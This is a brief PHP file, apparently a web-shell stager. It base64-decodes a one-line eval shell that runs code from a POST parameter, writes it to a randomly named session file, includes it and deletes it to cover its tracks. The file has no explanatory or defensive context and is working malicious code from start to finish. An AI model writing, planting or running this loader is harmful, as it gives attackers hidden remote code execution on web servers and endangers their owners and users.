<?php
// Drops a decoded one-line shell into a session file, includes it and removes it.
$payload = base64_decode('PD9waHAgQGV2YWwoJF9QT1NUWyd6J10pOyA/Pg==');
$tmp = session_save_path() . '/sess_' . md5(uniqid('', true));
@file_put_contents($tmp, $payload);
@include $tmp;
@unlink($tmp);
